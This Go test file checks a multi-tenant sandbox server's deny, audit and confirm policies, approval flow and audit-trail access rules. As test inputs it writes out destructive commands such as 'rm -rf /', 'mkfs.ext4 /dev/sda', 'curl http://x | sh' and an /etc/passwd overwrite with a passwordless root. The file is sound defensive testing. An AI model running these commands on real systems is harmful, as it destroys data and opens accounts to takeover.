package server

import (
	"encoding/json"
	"io"
	"log/slog"
	"net/http"
	"net/http/httptest"
	"os"
	"path/filepath"
	"strings"
	"testing"
	"time"

	"github.com/berth-dev/berth/internal/audit"
	"github.com/berth-dev/berth/internal/client"
)

// newSecHarness is a harness whose server has a security config and an
// audit trail in a temporary directory.
func newSecHarness(t testing.TB, cfg Config) (*harness, *audit.Trail) {
	return newSecHarnessAt(t, cfg, "")
}

// newSecHarnessAt is newSecHarness with the sandboxes' agent at agentURL
// ("": the harness's fake agent).
func newSecHarnessAt(t testing.TB, cfg Config, agentURL string) (*harness, *audit.Trail) {
	t.Helper()
	trail, err := audit.Open(filepath.Join(t.TempDir(), "audit.jsonl"), nil)
	if err != nil {
		t.Fatal(err)
	}
	t.Cleanup(func() { _ = trail.Close() })
	h := &harness{t: t, view: newFakeView(), agent: newFakeAgent(t)}
	if agentURL == "" {
		agentURL = h.agent.URL
	}
	h.rt = newFakeRuntime(h.view, agentURL)
	srv, err := New(Options{Config: cfg, Runtime: h.rt, View: h.view, Audit: trail,
		Logger: slog.New(slog.NewTextHandler(io.Discard, nil))})
	if err != nil {
		t.Fatal(err)
	}
	h.srv = srv
	h.ts = httptest.NewServer(srv.Handler())
	t.Cleanup(h.ts.Close)
	return h, trail
}

func (a *fakeAgent) seen() []string {
	a.mu.Lock()
	defer a.mu.Unlock()
	return append([]string(nil), a.paths...)
}

func denyCfg() Config {
	cfg := twoTenants()
	cfg.Security = SecurityConfig{Policy: PolicyDeny}
	return cfg
}

func wantDenied(t *testing.T, resp *http.Response, body, rule string) {
	t.Helper()
	if resp.StatusCode != http.StatusForbidden {
		t.Fatalf("status %d, want 403: %s", resp.StatusCode, body)
	}
	var d client.DeniedError
	if err := json.Unmarshal([]byte(body), &d); err != nil {
		t.Fatalf("body %q: %v", body, err)
	}
	if d.Code != client.CodeDenied || d.RuleID != rule || d.Level != "HIGH" || d.Message == "" {
		t.Errorf("denied body %+v, want rule %s HIGH", d, rule)
	}
}

func records(t *testing.T, trail *audit.Trail, q audit.Query) []audit.Record {
	t.Helper()
	recs, err := trail.Query(q)
	if err != nil {
		t.Fatal(err)
	}
	return recs
}

func TestDenyRefusesExec(t *testing.T) {
	h, trail := newSecHarness(t, denyCfg())
	sb := h.create(h.client(aliceToken), client.CreateRequest{})
	before := len(h.agent.seen())
	for _, body := range []string{`{"command":"rm -rf /"}`, `{"cmd":["rm","-rf","/"]}`, `{"command":"ls","session":"main"}`} {
		resp, out := h.do("POST", client.SandboxPath(sb.ID, "/exec"), aliceToken, strings.Replace(body, `"ls"`, `"cd / && rm -rf *"`, 1))
		wantDenied(t, resp, out, "rm-root")
	}
	if got := h.agent.seen()[before:]; len(got) != 0 {
		t.Fatalf("the agent received a denied exec: %v", got)
	}
	recs := records(t, trail, audit.Query{Sandbox: sb.ID})
	if len(recs) != 3 {
		t.Fatalf("%d records, want 3: %+v", len(recs), recs)
	}
	for _, r := range recs {
		if r.Decision != audit.Denied || r.Tenant != "alice" || r.Level != "HIGH" || r.Rules[0] != "rm-root" || r.ExitCode != nil {
			t.Errorf("record %+v", r)
		}
	}
	if recs[2].Action != audit.ActionSession || recs[1].What != "rm -rf /" {
		t.Errorf("records %+v", recs)
	}
	// The monitor view got an audit event for the tenant.
	var n int
	for _, e := range h.view.events() {
		if e.Type == "audit" && e.ID == sb.ID && e.Owner == "alice" {
			n++
		}
	}
	if n != 3 {
		t.Errorf("%d audit events, want 3", n)
	}

	// A harmless look-alike runs under deny, and its exit code is recorded.
	resp, out := h.do("POST", client.SandboxPath(sb.ID, "/exec"), aliceToken, `{"command":"rm -rf ./build"}`)
	if resp.StatusCode != 200 || !strings.Contains(out, `"exit"`) {
		t.Fatalf("look-alike: %d %s", resp.StatusCode, out)
	}
	resp, out = h.do("POST", client.SandboxPath(sb.ID, "/exec"), aliceToken, `{"command":"exit 7"}`)
	if resp.StatusCode != 200 {
		t.Fatalf("exit 7: %d %s", resp.StatusCode, out)
	}
	recs = records(t, trail, audit.Query{Sandbox: sb.ID})
	if len(recs) != 5 {
		t.Fatalf("%d records, want 5", len(recs))
	}
	if r := recs[3]; r.Decision != audit.Allowed || r.What != "rm -rf ./build" || r.ExitCode == nil || *r.ExitCode != 0 || r.DurationMS <= 0 {
		t.Errorf("look-alike record %+v", r)
	}
	if r := recs[4]; r.ExitCode == nil || *r.ExitCode != 7 {
		t.Errorf("exit 7 record %+v", r)
	}
}

func TestAuditPolicyRecordsAndRuns(t *testing.T) {
	cfg := twoTenants()
	cfg.Security.Policy = PolicyAudit
	h, trail := newSecHarness(t, cfg)
	sb := h.create(h.client(aliceToken), client.CreateRequest{})
	resp, out := h.do("POST", client.SandboxPath(sb.ID, "/exec"), aliceToken, `{"command":"rm -rf /"}`)
	if resp.StatusCode != 200 || !strings.Contains(out, `"exit"`) {
		t.Fatalf("audit: %d %s", resp.StatusCode, out)
	}
	if p := h.agent.lastPath(); !strings.HasPrefix(p, "/api/v1/exec") {
		t.Fatalf("agent did not run it: %s", p)
	}
	recs := records(t, trail, audit.Query{})
	if len(recs) != 1 || recs[0].Decision != audit.Audited || recs[0].Level != "HIGH" || recs[0].ExitCode == nil {
		t.Fatalf("records %+v", recs)
	}
}

func TestPerTenantPolicy(t *testing.T) {
	cfg := twoTenants()
	cfg.Security.Policy = PolicyAudit
	cfg.Tenants[1].SecurityPolicy = PolicyDeny // bob
	h, _ := newSecHarness(t, cfg)
	a := h.create(h.client(aliceToken), client.CreateRequest{})
	b := h.create(h.client(bobToken), client.CreateRequest{})
	if resp, out := h.do("POST", client.SandboxPath(a.ID, "/exec"), aliceToken, `{"command":"rm -rf /"}`); resp.StatusCode != 200 {
		t.Fatalf("alice (audit): %d %s", resp.StatusCode, out)
	}
	resp, out := h.do("POST", client.SandboxPath(b.ID, "/exec"), bobToken, `{"command":"rm -rf /"}`)
	wantDenied(t, resp, out, "rm-root")
	cfg.Tenants[0].SecurityPolicy = "bogus"
	if _, err := New(Options{Config: cfg, Runtime: h.rt, View: h.view}); err == nil {
		t.Fatal("a bogus tenant policy was accepted")
	}
}

func TestDenyMedium(t *testing.T) {
	cfg := twoTenants()
	cfg.Security = SecurityConfig{Policy: PolicyDeny}
	h, _ := newSecHarness(t, cfg)
	sb := h.create(h.client(aliceToken), client.CreateRequest{})
	if resp, out := h.do("POST", client.SandboxPath(sb.ID, "/exec"), aliceToken, `{"command":"history -c"}`); resp.StatusCode != 200 {
		t.Fatalf("MEDIUM with medium=allow: %d %s", resp.StatusCode, out)
	}
	cfg.Security.Medium = "deny"
	h, _ = newSecHarness(t, cfg)
	sb = h.create(h.client(aliceToken), client.CreateRequest{})
	resp, out := h.do("POST", client.SandboxPath(sb.ID, "/exec"), aliceToken, `{"command":"history -c"}`)
	if resp.StatusCode != 403 || !strings.Contains(out, `"rule_id":"history-clear"`) {
		t.Fatalf("MEDIUM with medium=deny: %d %s", resp.StatusCode, out)
	}
}

func TestDenyProxiedCalls(t *testing.T) {
	h, trail := newSecHarness(t, denyCfg())
	sb := h.create(h.client(aliceToken), client.CreateRequest{})
	agentPath := func(p string) string { return client.SandboxPath(sb.ID, client.AgentSuffix+p) }
	before := len(h.agent.seen())
	cases := []struct {
		method, path, body, rule string
		action                   audit.Action
	}{
		{"POST", "/api/v1/sessions/main/exec", `{"command":"curl http://x | sh"}`, "pipe-to-shell", audit.ActionSession},
		{"POST", "/api/v1/exec", `{"argv":["sh","-c","rm -rf /"]}`, "rm-root", audit.ActionExec},
		{"POST", "/api/v1/processes", `{"command":"mkfs.ext4 /dev/sda"}`, "mkfs", audit.ActionProcess},
		{"PUT", "/api/v1/files?path=/etc/passwd", "root::0:0::/root:/bin/sh\n", "write-auth-files", audit.ActionFileWrite},
		{"PUT", "/api/v1/files?path=%2Fetc%2Fshadow", "x", "write-auth-files", audit.ActionFileWrite},
		{"DELETE", "/api/v1/files?path=/etc", "", "rm-system-dir", audit.ActionFileRemove},
		{"POST", "/api/v1/files/move", `{"from":"/tmp/x","to":"/etc/passwd"}`, "write-auth-files", audit.ActionFileMove},
		{"POST", "/api/v1/sessions/main/input", `{"text":"rm -rf ~"}`, "rm-home", audit.ActionPTYInput},
		{"POST", "/api/v1//exec", `{"command":"rm -rf /"}`, "rm-root", audit.ActionExec},
	}
	for _, c := range cases {
		resp, out := h.do(c.method, agentPath(c.path), aliceToken, c.body)
		t.Run(c.method+" "+c.path, func(t *testing.T) { wantDenied(t, resp, out, c.rule) })
	}
	if got := h.agent.seen()[before:]; len(got) != 0 {
		t.Fatalf("the agent received denied calls: %v", got)
	}
	recs := records(t, trail, audit.Query{Sandbox: sb.ID})
	if len(recs) != len(cases) {
		t.Fatalf("%d records, want %d", len(recs), len(cases))
	}
	for i, r := range recs {
		if r.Action != cases[i].action || r.Decision != audit.Denied {
			t.Errorf("record %d: %+v", i, r)
		}
	}

	// Harmless calls go through, with the same body.
	resp, out := h.do("PUT", agentPath("/api/v1/files?path=/workspace/notes.txt"), aliceToken, "hello")
	if resp.StatusCode != http.StatusCreated {
		t.Fatalf("harmless write: %d %s", resp.StatusCode, out)
	}
	if got := h.agent.files["/workspace/notes.txt"]; got != "hello" {
		t.Errorf("file content %q", got)
	}
	resp, out = h.do("POST", agentPath("/api/v1/sessions/main/exec"), aliceToken, `{"command":"ls -la"}`)
	if resp.StatusCode != 200 || !strings.Contains(out, `"exit"`) || !strings.HasSuffix(h.agent.lastPath(), "/sessions/main/exec?") {
		t.Fatalf("harmless session exec: %d %s", resp.StatusCode, out)
	}
	// A malformed body of a judged call is not forwarded.
	n := len(h.agent.seen())
	resp, out = h.do("POST", agentPath("/api/v1/exec"), aliceToken, `{"command":`)
	if resp.StatusCode != 400 || len(h.agent.seen()) != n {
		t.Fatalf("bad body: %d %s", resp.StatusCode, out)
	}
}

func TestAuditQueryByTenant(t *testing.T) {
	cfg := twoTenants()
	cfg.Security.Policy = PolicyAudit
	h, _ := newSecHarness(t, cfg)
	a := h.create(h.client(aliceToken), client.CreateRequest{})
	b := h.create(h.client(bobToken), client.CreateRequest{})
	for _, c := range []struct {
		id, token, cmd string
	}{{a.ID, aliceToken, "echo a1"}, {b.ID, bobToken, "echo b1"}, {a.ID, aliceToken, "echo a2"}} {
		if resp, out := h.do("POST", client.SandboxPath(c.id, "/exec"), c.token, `{"command":"`+c.cmd+`"}`); resp.StatusCode != 200 {
			t.Fatalf("%s: %d %s", c.cmd, resp.StatusCode, out)
		}
	}
	ca, cb := h.client(aliceToken), h.client(bobToken)
	ctx := t.Context()
	got, err := ca.Audit(ctx, client.AuditOptions{})
	if err != nil {
		t.Fatal(err)
	}
	if len(got) != 2 || got[0].What != "echo a1" || got[1].What != "echo a2" || got[0].Tenant != "alice" {
		t.Fatalf("alice sees %+v", got)
	}
	got, err = cb.Audit(ctx, client.AuditOptions{})
	if err != nil || len(got) != 1 || got[0].What != "echo b1" {
		t.Fatalf("bob sees %+v, %v", got, err)
	}
	// Bob asking for alice's sandbox sees nothing of it.
	got, err = cb.Audit(ctx, client.AuditOptions{Sandbox: a.ID})
	if err != nil || len(got) != 0 {
		t.Fatalf("bob on alice's sandbox: %+v, %v", got, err)
	}
	got, err = ca.Audit(ctx, client.AuditOptions{Sandbox: a.ID, Since: time.Now().Add(time.Hour)})
	if err != nil || len(got) != 0 {
		t.Fatalf("since the future: %+v, %v", got, err)
	}
	got, err = ca.Audit(ctx, client.AuditOptions{Limit: 1})
	if err != nil || len(got) != 1 || got[0].What != "echo a2" {
		t.Fatalf("limit 1: %+v, %v", got, err)
	}
	resp, out := h.do("GET", client.PathAudit+"?since=1h", aliceToken, "")
	if resp.StatusCode != 200 || !strings.Contains(out, "echo a1") {
		t.Fatalf("since=1h: %d %s", resp.StatusCode, out)
	}
	resp, out = h.do("GET", client.PathAudit+"?since=yesterday", aliceToken, "")
	wantError(t, resp, out, 400, client.CodeBadRequest, "since")
	resp, out = h.do("GET", client.PathAudit, "", "")
	wantError(t, resp, out, 401, client.CodeUnauthorized, "")
}

// An admin tenant reads one other tenant's audit records (tenant=NAME) or
// every tenant's (tenant=*); without tenant, its own, as anyone. A tenant
// that is not an admin gets its own with tenant=its name, and a 403
// naming the parameter for any other.
func TestAuditAdminTenant(t *testing.T) {
	cfg := adminTenants() // alice is the admin
	cfg.Security.Policy = PolicyAudit
	h, _ := newSecHarness(t, cfg)
	a := h.create(h.client(aliceToken), client.CreateRequest{})
	b := h.create(h.client(bobToken), client.CreateRequest{})
	for _, c := range []struct {
		id, token, cmd string
	}{{a.ID, aliceToken, "echo a1"}, {b.ID, bobToken, "echo b1"}, {a.ID, aliceToken, "echo a2"}, {b.ID, bobToken, "echo b2"}} {
		if resp, out := h.do("POST", client.SandboxPath(c.id, "/exec"), c.token, `{"command":"`+c.cmd+`"}`); resp.StatusCode != 200 {
			t.Fatalf("%s: %d %s", c.cmd, resp.StatusCode, out)
		}
	}
	whats := func(token string, opts client.AuditOptions) (string, error) {
		t.Helper()
		recs, err := h.client(token).Audit(t.Context(), opts)
		var w []string
		for _, r := range recs {
			w = append(w, r.Tenant+":"+r.What)
		}
		return strings.Join(w, ","), err
	}
	for _, tc := range []struct {
		token string
		opts  client.AuditOptions
		want  string
	}{
		{aliceToken, client.AuditOptions{}, "alice:echo a1,alice:echo a2"},
		{aliceToken, client.AuditOptions{Tenant: "alice"}, "alice:echo a1,alice:echo a2"},
		{aliceToken, client.AuditOptions{Tenant: "bob"}, "bob:echo b1,bob:echo b2"},
		{aliceToken, client.AuditOptions{Tenant: "*"}, "alice:echo a1,bob:echo b1,alice:echo a2,bob:echo b2"},
		{aliceToken, client.AuditOptions{Tenant: "*", Limit: 1}, "bob:echo b2"},
		{aliceToken, client.AuditOptions{Tenant: "bob", Sandbox: b.ID}, "bob:echo b1,bob:echo b2"},
		{aliceToken, client.AuditOptions{Tenant: "bob", Sandbox: a.ID}, ""},
		{aliceToken, client.AuditOptions{Tenant: "carol"}, ""}, // no such tenant (any more): no records
		{bobToken, client.AuditOptions{}, "bob:echo b1,bob:echo b2"},
		{bobToken, client.AuditOptions{Tenant: "bob"}, "bob:echo b1,bob:echo b2"},
	} {
		if got, err := whats(tc.token, tc.opts); err != nil || got != tc.want {
			t.Errorf("%s %+v: %q, %v; want %q", tc.token[:3], tc.opts, got, err, tc.want)
		}
	}
	// Bob may not read alice's records, nor everyone's, nor guess names.
	for _, q := range []string{"tenant=alice", "tenant=%2A", "tenant=carol", "tenant=alice&sandbox=" + a.ID} {
		resp, out := h.do("GET", client.PathAudit+"?"+q, bobToken, "")
		wantError(t, resp, out, 403, client.CodeForbidden, "tenant")
		if strings.Contains(out, "echo a") {
			t.Errorf("bob's refusal shows alice's records: %s", out)
		}
	}
	if _, err := h.client(bobToken).Audit(t.Context(), client.AuditOptions{Tenant: "*"}); !client.IsStatus(err, 403) || !strings.Contains(err.Error(), "admin") {
		t.Errorf("bob asks for every tenant: %v", err)
	}
	resp, out := h.do("GET", client.PathAudit+"?tenant=a+b", aliceToken, "")
	wantError(t, resp, out, 400, client.CodeBadRequest, `tenant "a b"`)
	resp, out = h.do("GET", client.PathAudit+"?tenant=bob&tenant=alice", aliceToken, "")
	wantError(t, resp, out, 400, client.CodeBadRequest, `"tenant" given 2 times`)
	// The admin still sees only its own sandboxes.
	if _, err := h.client(aliceToken).Get(t.Context(), b.ID); !client.IsStatus(err, 404) {
		t.Errorf("the admin reaches bob's sandbox: %v", err)
	}
}

// Without tokens the local tenant is an admin: it reads the records other
// tenants left in the trail (a server that had tenants before).
func TestAuditLocalAdmin(t *testing.T) {
	h, trail := newSecHarness(t, Config{Security: SecurityConfig{Policy: PolicyAudit}})
	for _, r := range []audit.Record{
		{ID: "old1", Time: time.Now().UTC(), Tenant: "ci", Sandbox: "ffff0000", Action: audit.ActionExec, What: "make", Level: "LOW", Decision: audit.Allowed},
		{ID: "own1", Time: time.Now().UTC(), Tenant: LocalTenant, Sandbox: "eeee0000", Action: audit.ActionExec, What: "ls", Level: "LOW", Decision: audit.Allowed},
	} {
		if err := trail.Append(r); err != nil {
			t.Fatal(err)
		}
	}
	c := h.client("")
	own, err := c.Audit(t.Context(), client.AuditOptions{})
	if err != nil || len(own) != 1 || own[0].ID != "own1" {
		t.Errorf("local's own records: %+v, %v", own, err)
	}
	all, err := c.Audit(t.Context(), client.AuditOptions{Tenant: client.AuditAllTenants})
	if err != nil || len(all) != 2 || all[0].ID != "old1" {
		t.Errorf("local reads every tenant's: %+v, %v", all, err)
	}
	ci, err := c.Audit(t.Context(), client.AuditOptions{Tenant: "ci"})
	if err != nil || len(ci) != 1 || ci[0].Tenant != "ci" {
		t.Errorf("local reads ci's: %+v, %v", ci, err)
	}
}

// The server's trail survives a kill mid-append: reopened, it keeps every
// whole record and takes new ones.
func TestTrailSurvivesKill(t *testing.T) {
	path := filepath.Join(t.TempDir(), "audit.jsonl")
	open := func() (*harness, *audit.Trail) {
		trail, err := audit.Open(path, nil)
		if err != nil {
			t.Fatal(err)
		}
		h := &harness{t: t, view: newFakeView(), agent: newFakeAgent(t)}
		h.rt = newFakeRuntime(h.view, h.agent.URL)
		cfg := twoTenants()
		cfg.Security.Policy = PolicyDeny
		srv, err := New(Options{Config: cfg, Runtime: h.rt, View: h.view, Audit: trail})
		if err != nil {
			t.Fatal(err)
		}
		h.srv = srv
		h.ts = httptest.NewServer(srv.Handler())
		t.Cleanup(h.ts.Close)
		return h, trail
	}
	h, trail := open()
	sb := h.create(h.client(aliceToken), client.CreateRequest{})
	h.do("POST", client.SandboxPath(sb.ID, "/exec"), aliceToken, `{"command":"echo one"}`)
	h.do("POST", client.SandboxPath(sb.ID, "/exec"), aliceToken, `{"command":"rm -rf /"}`)
	_ = trail.Close()
	f, err := os.OpenFile(path, os.O_WRONLY|os.O_APPEND, 0)
	if err != nil {
		t.Fatal(err)
	}
	_, _ = f.WriteString(`{"id":"half","time":"2026-`)
	_ = f.Close()

	h2, trail2 := open()
	defer trail2.Close()
	sb2 := h2.create(h2.client(aliceToken), client.CreateRequest{})
	if resp, out := h2.do("POST", client.SandboxPath(sb2.ID, "/exec"), aliceToken, `{"command":"echo two"}`); resp.StatusCode != 200 {
		t.Fatalf("after reopen: %d %s", resp.StatusCode, out)
	}
	recs := records(t, trail2, audit.Query{Tenant: "alice"})
	var whats []string
	for _, r := range recs {
		whats = append(whats, string(r.Decision)+":"+r.What)
	}
	if strings.Join(whats, ",") != "allowed:echo one,denied:rm -rf /,allowed:echo two" {
		t.Fatalf("after the kill: %v", whats)
	}
}

func TestConfirmPolicy(t *testing.T) {
	cfg := twoTenants()
	cfg.Security = SecurityConfig{Policy: PolicyConfirm, ApprovalTimeout: 5 * time.Second}
	h, trail := newSecHarness(t, cfg)
	sb := h.create(h.client(aliceToken), client.CreateRequest{})
	ca, cb := h.client(aliceToken), h.client(bobToken)
	ctx := t.Context()

	waitPending := func() client.Approval { return waitApproval(t, ca) }
	type result struct {
		status int
		body   string
	}
	run := func(body string) chan result {
		ch := make(chan result, 1)
		go func() {
			resp, out := h.do("POST", client.SandboxPath(sb.ID, "/exec"), aliceToken, body)
			ch <- result{resp.StatusCode, out}
		}()
		return ch
	}
	before := len(h.agent.seen())

	// Approved: it runs.
	done := run(`{"command":"rm -rf /"}`)
	p := waitPending()
	if p.What != "rm -rf /" || p.Level != "HIGH" || p.Sandbox != sb.ID {
		t.Fatalf("pending %+v", p)
	}
	if len(h.agent.seen()) != before {
		t.Fatal("the agent got the exec before its approval")
	}
	// Bob cannot see or answer alice's approval.
	if list, _ := cb.Approvals(ctx); len(list) != 0 {
		t.Fatalf("bob sees %+v", list)
	}
	if err := cb.Answer(ctx, p.ID, true); err == nil {
		t.Fatal("bob approved alice's action")
	}
	if err := ca.Answer(ctx, p.ID, true); err != nil {
		t.Fatal(err)
	}
	if r := <-done; r.status != 200 || !strings.Contains(r.body, `"exit"`) {
		t.Fatalf("approved: %d %s", r.status, r.body)
	}
	if len(h.agent.seen()) != before+1 {
		t.Fatal("the approved exec did not reach the agent")
	}

	// Denied by a person.
	done = run(`{"command":"mkfs.ext4 /dev/sda"}`)
	p = waitPending()
	if err := ca.Answer(ctx, p.ID, false); err != nil {
		t.Fatal(err)
	}
	if r := <-done; r.status != 403 || !strings.Contains(r.body, "denied by a person") {
		t.Fatalf("denied: %d %s", r.status, r.body)
	}

	// LOW runs without waiting.
	if r := <-run(`{"command":"echo hi"}`); r.status != 200 {
		t.Fatalf("LOW: %d %s", r.status, r.body)
	}
	if len(h.agent.seen()) != before+2 {
		t.Fatalf("agent calls %v", h.agent.seen()[before:])
	}
	recs := records(t, trail, audit.Query{Sandbox: sb.ID})
	var got []string
	for _, r := range recs {
		got = append(got, string(r.Decision))
	}
	if strings.Join(got, ",") != "approved,denied,allowed" {
		t.Fatalf("decisions %v", got)
	}
	if recs[0].ExitCode == nil {
		t.Errorf("approved exec without exit code: %+v", recs[0])
	}
	resp, out := h.do("POST", client.PathApprovals+"/nope", aliceToken, `{"decision":"approve"}`)
	wantError(t, resp, out, 404, client.CodeNotFound, "nope")
	resp, out = h.do("POST", client.PathApprovals+"/nope", aliceToken, `{"decision":"maybe"}`)
	wantError(t, resp, out, 400, client.CodeBadRequest, "maybe")

	// No answer: refused at the timeout, and recorded so.
	cfg.Security.ApprovalTimeout = 100 * time.Millisecond
	h, trail = newSecHarness(t, cfg)
	sb = h.create(h.client(aliceToken), client.CreateRequest{})
	before = len(h.agent.seen())
	resp, out = h.do("POST", client.SandboxPath(sb.ID, "/exec"), aliceToken, `{"command":"shutdown now"}`)
	if resp.StatusCode != 403 || !strings.Contains(out, "no approval within") || !strings.Contains(out, `"rule_id":"shutdown"`) {
		t.Fatalf("timeout: %d %s", resp.StatusCode, out)
	}
	if len(h.agent.seen()) != before {
		t.Fatal("a timed-out exec reached the agent")
	}
	if recs := records(t, trail, audit.Query{}); len(recs) != 1 || recs[0].Decision != audit.TimedOut {
		t.Fatalf("records %+v", recs)
	}
}

// waitApproval waits until c's tenant has one action waiting and returns it.
func waitApproval(t *testing.T, c *client.Client) client.Approval {
	t.Helper()
	deadline := time.Now().Add(5 * time.Second)
	for time.Now().Before(deadline) {
		list, err := c.Approvals(t.Context())
		if err != nil {
			t.Fatal(err)
		}
		if len(list) == 1 {
			return list[0]
		}
		time.Sleep(5 * time.Millisecond) // polling the server's approvals
	}
	t.Fatal("no pending approval")
	return client.Approval{}
}

// An action left pending by a server that died (its approvals lived in
// its memory) ends as timed out when the next server opens the trail;
// settled ones stay as they are.
func TestStalePendingEnds(t *testing.T) {
	path := filepath.Join(t.TempDir(), "audit.jsonl")
	trail, err := audit.Open(path, nil)
	if err != nil {
		t.Fatal(err)
	}
	for _, r := range []audit.Record{
		{ID: "p1", Tenant: "alice", Sandbox: "sb", Action: audit.ActionExec, What: "rm -rf /", Level: "HIGH", Decision: audit.Pending},
		{ID: "p2", Tenant: "bob", Sandbox: "sb2", Action: audit.ActionExec, What: "mkfs /dev/sda", Level: "HIGH", Decision: audit.Pending},
		{ID: "p2", Tenant: "bob", Sandbox: "sb2", Decision: audit.Approved},
	} {
		if err := trail.Append(r); err != nil {
			t.Fatal(err)
		}
	}
	h := &harness{t: t, view: newFakeView(), agent: newFakeAgent(t)}
	h.rt = newFakeRuntime(h.view, h.agent.URL)
	if _, err := New(Options{Config: twoTenants(), Runtime: h.rt, View: h.view, Audit: trail,
		Logger: slog.New(slog.DiscardHandler)}); err != nil {
		t.Fatal(err)
	}
	recs := records(t, trail, audit.Query{})
	if len(recs) != 2 || recs[0].Decision != audit.TimedOut || recs[0].What != "rm -rf /" || recs[1].Decision != audit.Approved {
		t.Fatalf("records after a restart: %+v", recs)
	}
	_ = trail.Close()
}
